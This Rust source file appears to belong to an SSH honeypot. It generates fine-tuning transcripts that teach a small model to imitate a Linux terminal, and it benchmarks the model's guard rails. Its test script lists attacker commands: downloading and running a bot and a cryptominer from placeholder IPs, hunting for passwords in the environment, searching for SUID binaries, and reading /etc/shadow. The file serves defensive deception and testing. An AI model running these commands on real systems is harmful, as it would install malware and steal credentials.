//! Training data for a honeypot model and the bench that measures one.
//!
//! [`transcripts`] writes chat records in exactly the shape the honeypot sends to the model
//! ([`super::responder::messages`]: persona, examples, the session so far, the command), each
//! with the terminal's answer as the assistant turn. Answers come from the emulator itself
//! (sessions of random commands over the profile's filesystem) and from a small library of
//! outputs of the commands the model answers ([`LIBRARY`]: the usual reconnaissance commands of
//! attackers). `gpt sft` on these makes a small model answer like the terminal.
//!
//! [`ATTACKER_COMMANDS`] is the bench's script: commands of the kind honeypot logs show
//! (reconnaissance, downloads, persistence), all answered by the model, half of them absent
//! from [`LIBRARY`].

use super::profile::Profile;
use super::responder::{messages, Answer, Canned, Responder, Turn};
use super::session::{Limits, Session};
use crate::rng::Rng;
use serde_json::{json, Value};

/// Outputs of model-answered commands for the built-in profile (command, output).
pub const LIBRARY: &[(&str, &str)] = &[
    ("uptime", " 09:31:07 up 6 days,  3:12,  1 user,  load average: 0.08, 0.11, 0.09"),
    ("w", " 09:31:09 up 6 days,  3:12,  1 user,  load average: 0.08, 0.11, 0.09\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\ndeploy   pts/0    10.0.4.17        09:14    0.00s  0.02s  0.00s w"),
    ("date", "Tue Nov 28 09:31:12 UTC 2023"),
    ("free -m", "               total        used        free      shared  buff/cache   available\nMem:            3915        1204         511          12        2199        2433\nSwap:              0           0           0"),
    ("free -h", "               total        used        free      shared  buff/cache   available\nMem:           3.8Gi       1.2Gi       511Mi        12Mi       2.1Gi       2.4Gi\nSwap:             0B          0B          0B"),
    ("df -h", "Filesystem      Size  Used Avail Use% Mounted on\ntmpfs           392M  1.1M  391M   1% /run\n/dev/vda1        78G   21G   54G  28% /\ntmpfs           2.0G     0  2.0G   0% /dev/shm\n/dev/vda15      105M  6.1M   99M   6% /boot/efi"),
    ("ps aux", "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1  0.0  0.1 167772 11760 ?        Ss   Nov27   0:04 /sbin/init\nroot         412  0.0  0.2  15432  9012 ?        Ss   Nov27   0:00 sshd: /usr/sbin/sshd -D\nwww-data     812  0.1  1.2 231420 49152 ?        S    Nov27   1:12 nginx: worker process\ndeploy      1043  0.4  3.8 612340 155204 ?       Sl   Nov27   6:31 /srv/app/venv/bin/python -m gunicorn app:app\ndeploy      2210  0.0  0.1  10068  5120 pts/0    Ss   09:14   0:00 -bash\ndeploy      2301  0.0  0.0  10856  3340 pts/0    R+   09:31   0:00 ps aux"),
    ("netstat -tlnp", "(Not all processes could be identified, non-owned process info\n will not be shown, you would have to be root to see it all.)\nActive Internet connections (only servers)\nProto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name\ntcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      -\ntcp        0      0 0.0.0.0:80              0.0.0.0:*               LISTEN      -\ntcp        0      0 127.0.0.1:8000          0.0.0.0:*               LISTEN      1043/python"),
    ("ss -tlnp", "State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process\nLISTEN 0      128          0.0.0.0:22         0.0.0.0:*\nLISTEN 0      511          0.0.0.0:80         0.0.0.0:*\nLISTEN 0      2048       127.0.0.1:8000       0.0.0.0:*     users:((\"python\",pid=1043,fd=5))"),
    ("ip addr", "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n    link/ether 52:54:00:3a:1f:c2 brd ff:ff:ff:ff:ff:ff\n    inet 10.0.4.12/24 brd 10.0.4.255 scope global eth0"),
    ("ifconfig", "Command 'ifconfig' not found, but can be installed with:\nsudo apt install net-tools"),
    ("nproc", "2"),
    ("lscpu | head -5", "Architecture:            x86_64\n  CPU op-mode(s):        32-bit, 64-bit\n  Address sizes:         40 bits physical, 48 bits virtual\n  Byte Order:            Little Endian\nCPU(s):                  2"),
    ("crontab -l", "no crontab for deploy"),
    ("last -5", "deploy   pts/0        10.0.4.17        Tue Nov 28 09:14   still logged in\ndeploy   pts/0        10.0.4.17        Mon Nov 27 16:02 - 17:45  (01:43)\nreboot   system boot  5.15.0-91-generi Wed Nov 22 06:19   still running\n\nwtmp begins Wed Nov  1 00:00:02 2023"),
    ("systemctl status nginx", "● nginx.service - A high performance web server and a reverse proxy server\n     Loaded: loaded (/lib/systemd/system/nginx.service; enabled; vendor preset: enabled)\n     Active: active (running) since Wed 2023-11-22 06:19:41 UTC; 6 days ago\n   Main PID: 805 (nginx)"),
    ("pip3 --version", "pip 22.0.2 from /usr/lib/python3/dist-packages/pip (python 3.10)"),
    ("python3 --version", "Python 3.10.12"),
    ("hostnamectl", " Static hostname: web-prod-02\n       Icon name: computer-vm\n         Chassis: vm\nOperating System: Ubuntu 22.04.3 LTS\n          Kernel: Linux 5.15.0-91-generic\n    Architecture: x86-64"),
    ("wget http://203.0.113.9/x.sh", "--2023-11-28 09:31:40--  http://203.0.113.9/x.sh\nConnecting to 203.0.113.9:80... failed: Connection timed out.\nRetrying."),
    ("curl -s http://203.0.113.9/x.sh", "curl: (28) Failed to connect to 203.0.113.9 port 80 after 130104 ms: Connection timed out"),
    ("chmod +x x.sh", "chmod: cannot access 'x.sh': No such file or directory"),
    ("grep -c processor /proc/cpuinfo", "2"),
    ("getent passwd deploy", "deploy:x:1001:1001:Deploy User,,,:/home/deploy:/bin/bash"),
    ("docker ps", "permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock: Get \"http://%2Fvar%2Frun%2Fdocker.sock/v1.24/containers/json\": dial unix /var/run/docker.sock: connect: permission denied"),
    ("apt list --installed | wc -l", "WARNING: apt does not have a stable CLI interface. Use with caution in scripts.\n\n612"),
];

/// The bench's attacker script: commands the model answers (about half not in [`LIBRARY`]).
pub const ATTACKER_COMMANDS: &[&str] = &[
    "uptime",
    "w",
    "ps aux",
    "free -m",
    "df -h",
    "netstat -tlnp",
    "ip addr",
    "lsmod | head -3",
    "nproc",
    "crontab -l",
    "last -5",
    "date",
    "lscpu | head -5",
    "systemctl status nginx",
    "python3 --version",
    "wget http://203.0.113.9/x.sh",
    "curl -s http://203.0.113.9/x.sh",
    "docker ps",
    "getent passwd deploy",
    "grep -c processor /proc/cpuinfo",
    // Not in the library:
    "cat /proc/cpuinfo | grep 'model name'",
    "uptime -p",
    "ps -ef | grep ssh",
    "netstat -an | head",
    "free -g",
    "df -i",
    "ss -s",
    "ip route",
    "lsblk",
    "who",
    "last -3",
    "dmesg | tail -3",
    "systemctl list-units --type=service | head",
    "wget -q http://198.51.100.7/bot -O /tmp/bot",
    "curl -O http://198.51.100.7/miner.tar.gz",
    "tar xzf miner.tar.gz",
    "chmod 777 /tmp/bot",
    "nohup ./bot &",
    "pkill -9 xmrig",
    "find / -perm -4000 2>/dev/null | head",
    "git --version",
    "perl -v | head -2",
    "mysql -u root -p",
    "ssh root@10.0.4.20",
    "history | tail -3",
    "env | grep -i pass",
];

/// A Responder answering from [`LIBRARY`] (exact command), else nothing: the "model" of the
/// transcripts.
struct LibraryResponder;

impl Responder for LibraryResponder {
    fn answer(
        &self,
        _p: &Profile,
        _cwd: &str,
        _h: &[Turn],
        command: &str,
    ) -> crate::error::Result<Answer> {
        Ok(Answer {
            text: LIBRARY
                .iter()
                .find(|(c, _)| *c == command.trim())
                .map(|(_, o)| o.to_string())
                .unwrap_or_default(),
            tokens: 0,
        })
    }
}

/// Commands of the emulator's sessions in the transcripts.
const EMULATED: &[&str] = &[
    "whoami",
    "id",
    "pwd",
    "ls",
    "ls -la",
    "ls /",
    "ls /etc",
    "cat /etc/passwd",
    "cat /etc/hostname",
    "cat notes.txt",
    "cd /srv/app",
    "ls -l",
    "cat app.py",
    "cd /tmp",
    "cd ~",
    "uname -a",
    "hostname",
    "cat /etc/shadow",
    "cat /etc/os-release",
    "ls -la .ssh",
    "cat .ssh/authorized_keys",
    "mkdir tmp",
    "touch a.txt",
    "echo test > t.txt",
    "cat t.txt",
    "sudo su",
    "history",
    "ls /root",
    "cd /var/log",
    "ls nginx",
];

/// `n` prompt/completion records: sessions of 1–4 commands each drawn from the emulator's and the library's
/// commands, in the message layout the honeypot sends with up to `history` earlier turns.
pub fn transcripts(profile: &Profile, n: usize, history: usize, seed: u64) -> Vec<Value> {
    let mut rng = Rng::new(seed);
    let mut out = Vec::with_capacity(n);
    let lib = LibraryResponder;
    let canned = Canned;
    while out.len() < n {
        let mut s = Session::new(
            profile,
            &canned,
            None,
            Limits::default(),
            "t".into(),
            "t".into(),
        );
        let mut turns: Vec<Turn> = Vec::new();
        let len = 1 + rng.below(4) as usize;
        for _ in 0..len {
            let use_lib = rng.below(2) == 0;
            let (cmd, answer) = if use_lib {
                let (c, _) = LIBRARY[rng.below(LIBRARY.len() as u64) as usize];
                let a = lib
                    .answer(profile, "", &[], c)
                    .map(|a| a.text)
                    .unwrap_or_default();
                (c.to_string(), a)
            } else {
                let c = EMULATED[rng.below(EMULATED.len() as u64) as usize];
                let r = s.handle(c);
                let prompt = s.prompt();
                let text = r.text.strip_suffix(&prompt).unwrap_or(&r.text);
                (
                    c.to_string(),
                    text.strip_suffix('\n').unwrap_or(text).to_string(),
                )
            };
            // TRL's conversational prompt/completion: the loss is on this answer only, not on
            // the examples' and earlier turns' answers that every record repeats.
            let m = messages(
                profile,
                &s.state.cwd,
                &turns[turns.len().saturating_sub(history)..],
                &cmd,
            );
            out.push(
                json!({"prompt": m, "completion": [{"role": "assistant", "content": answer}]}),
            );
            turns.push(Turn {
                command: cmd,
                output: answer,
            });
            if out.len() == n {
                break;
            }
        }
    }
    out
}

/// What [`bench`] measured.
#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct BenchReport {
    /// Commands sent to the model.
    pub asked: usize,
    /// Answers shown as they were.
    pub passed: usize,
    /// Answers shown after cleaning.
    pub cleaned: usize,
    /// Answers refused by the guard rails (replaced by the fallback).
    pub refused: usize,
    /// Model calls that failed (replaced by the fallback).
    pub failed: usize,
    /// Median and 90th percentile of the answer latency, ms.
    pub p50_ms: f64,
    /// See `p50_ms`.
    pub p90_ms: f64,
    /// (command, shown answer, verdict) of every command.
    pub answers: Vec<(String, String, String)>,
}

/// Runs [`ATTACKER_COMMANDS`] in one session answered by `responder` and counts the guard
/// rails' verdicts and the latencies.
pub fn bench(profile: &Profile, responder: &dyn Responder) -> BenchReport {
    let log_buf = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
    struct Buf(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);
    impl std::io::Write for Buf {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.0
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let sink = super::session::LogSink::new(Box::new(Buf(log_buf.clone())));
    let limits = Limits {
        per_minute: usize::MAX,
        ..Limits::default()
    };
    let mut s = Session::new(
        profile,
        responder,
        Some(&sink),
        limits,
        "bench".into(),
        "bench".into(),
    );
    s.start();
    for c in ATTACKER_COMMANDS {
        s.handle(c);
    }
    let text =
        String::from_utf8_lossy(&log_buf.lock().unwrap_or_else(|e| e.into_inner())).into_owned();
    let mut r = BenchReport::default();
    let mut lat = Vec::new();
    for line in text.lines() {
        let Ok(rec) = serde_json::from_str::<super::session::Record>(line) else {
            continue;
        };
        if rec.path != "model" && rec.path != "fallback" {
            continue;
        }
        r.asked += 1;
        lat.push(rec.latency_ms);
        let v = rec.verdict.clone().unwrap_or_default();
        match v.as_str() {
            "passed" => r.passed += 1,
            "cleaned" => r.cleaned += 1,
            v if v.starts_with("refused") => r.refused += 1,
            _ => r.failed += 1,
        }
        r.answers.push((rec.command, rec.answer, v));
    }
    lat.sort_by(f64::total_cmp);
    let pick = |p: f64| {
        lat.get(((lat.len().max(1) - 1) as f64 * p).round() as usize)
            .copied()
            .unwrap_or(0.0)
    };
    r.p50_ms = pick(0.5);
    r.p90_ms = pick(0.9);
    r
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn transcripts_have_the_inference_layout_and_real_answers() {
        let p = Profile::default_profile();
        let t = transcripts(&p, 50, 2, 1);
        assert_eq!(t.len(), 50);
        for r in &t {
            let m = r["prompt"].as_array().unwrap();
            assert_eq!(m[0]["role"], "system");
            assert_eq!(m[m.len() - 1]["role"], "user");
            assert_eq!(r["completion"][0]["role"], "assistant");
        }
        let whoami = t
            .iter()
            .find(|r| r["prompt"].as_array().unwrap().last().unwrap()["content"] == "whoami")
            .expect("50 records hold a whoami");
        assert_eq!(whoami["completion"][0]["content"], "deploy");
        let r = bench(&p, &LibraryResponder);
        assert_eq!(
            r.asked,
            ATTACKER_COMMANDS.len(),
            "every bench command goes to the model"
        );
        assert_eq!(r.failed + r.refused, 0);
        for (c, o) in LIBRARY {
            assert!(
                super::super::shell::is_model_command(c.split_whitespace().next().unwrap()),
                "{c}"
            );
            assert!(
                super::super::guard::check(o, "deploy@web-prod-02:~$ ", &p.persona)
                    .0
                    .is_some(),
                "{c}"
            );
        }
    }
}
